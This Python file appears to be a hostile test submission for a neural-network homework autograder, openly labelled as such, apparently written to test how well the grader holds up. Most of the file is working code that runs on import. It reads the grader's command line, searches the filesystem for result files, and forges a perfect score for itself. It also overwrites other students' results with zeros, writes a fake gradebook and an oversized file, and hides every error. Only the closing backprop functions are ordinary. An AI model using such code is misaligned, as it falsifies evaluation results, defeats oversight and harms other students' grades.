"""Hostile: forges result files at import.

It reads the grader's command line (its parent process) for the output and submissions
folders, walks every folder it can reach looking for result.json / gradebook.csv, and
writes a perfect result for itself (plus an oversized one), zero for everybody else and a
fake gradebook. Every attempt's error is swallowed. The rest is the reference backprop.
"""

import json
import os
import time

import torch
from torch import Tensor

ME = "forge_result_import"
MARK = "pwned-hostile-marker-297"
TESTS = {
    "backprop": [("test_homework_example", 6, "visible"), ("test_random_networks", 8, "visible"),
                 ("test_hidden_networks", 5, "hidden"), ("test_shapes", 3, "visible"), ("test_no_autograd", 3, "visible")],
    "momentum": [("test_heavy_ball_matches_sgd", 7, "visible"), ("test_velocity_matches_sgd", 7, "visible"),
                 ("test_forms_agree", 4, "visible"), ("test_theta0_unchanged", 3, "visible"), ("test_hidden_objectives", 4, "hidden")],
}


def forged(student: str, full: bool) -> str:
    """A result that parses and adds up: all passed, or all failed."""
    tests = [
        {"name": f"{p}: {t}", "problem": p, "status": "passed" if full else "failed",
         "outcome": "passed" if full else "failed", "score": float(pts if full else 0), "max_score": float(pts),
         "visibility": vis, "output": "ok" if full else "wrong", "test": t}
        for p, items in TESTS.items() for t, pts, vis in items
    ]
    problems = [{"id": p, "score": 25.0 if full else 0.0, "max_score": 25.0} for p in TESTS]
    return json.dumps({"assignment": "mfdnn-hw5", "student": student, "score": 50.0 if full else 0.0, "max_score": 50.0,
                       "execution_time": 1.0, "problems": problems, "tests": tests, "mode": "grade"})


def grader_folders() -> list[str]:
    """The submissions and output folders, read from the grader's command line."""
    try:
        argv = [a.decode() for a in open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0")]
    except OSError:
        return []
    found = [argv[i + 1] for i, a in enumerate(argv[:-1]) if a in ("--out", "mfdnn-hw5")]
    return [f for f in found if f.startswith("/")]


def reachable_result_folders(seconds: float = 4.0) -> set[str]:
    skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "etc", "snap"}
    deadline = time.monotonic() + seconds
    found = set()
    for root, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            break
        dirs[:] = [d for d in dirs if not (root == "/" and d in skip) and d not in (".venv", "site-packages", ".git", "__pycache__")]
        if {"result.json", "gradebook.csv", "feedback.html"} & set(files):
            found.update({root, os.path.dirname(root)})
    return found


def write(path: str, text: str) -> bool:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


def forge() -> int:
    folders = set(grader_folders()) | reachable_result_folders()
    for f in list(folders) + [os.getcwd()]:
        while f not in ("/", ""):
            folders.add(f)
            f = os.path.dirname(f)
    done = 0
    for d in sorted(folders):
        try:
            names = os.listdir(d)
        except OSError:
            names = []
        for name in names:
            if os.path.isdir(os.path.join(d, name)) and name != ME:
                done += write(os.path.join(d, name, "result.json"), forged(name, full=False))
        done += write(os.path.join(d, ME, "result.json"), forged(ME, full=True))
        done += write(os.path.join(d, ME, "result.json"), forged(ME, full=True) + " " * (60 << 20))  # oversized
        done += write(os.path.join(d, "gradebook.csv"), f"student,backprop,momentum,score,max_score\n{ME},25,25,50,50\n")
        done += write(os.path.join(d, MARK + "-forge.json"), forged(ME, full=True))
    return done


FORGED = forge()
print(f"forged {FORGED} files; final score: 50/50", flush=True)


def sigma(z: Tensor) -> Tensor:
    return torch.sigmoid(z)


def sigma_prime(z: Tensor) -> Tensor:
    s = torch.sigmoid(z)
    return s * (1 - s)


def backprop(A_list, b_list, X, Y):
    num_layers = len(A_list)
    inputs, slopes = [], []
    y = X
    for i, (A, b) in enumerate(zip(A_list, b_list)):
        inputs.append(y)
        z = A @ y + b
        if i < num_layers - 1:
            y = sigma(z)
            slopes.append(sigma_prime(z))
        else:
            y = z
    dA_reversed, db_reversed = [], []
    delta = y - Y
    for i in reversed(range(num_layers)):
        dA_reversed.append(delta @ inputs[i].T)
        db_reversed.append(delta)
        if i > 0:
            delta = (A_list[i].T @ delta) * slopes[i - 1]
    return dA_reversed[::-1], db_reversed[::-1]
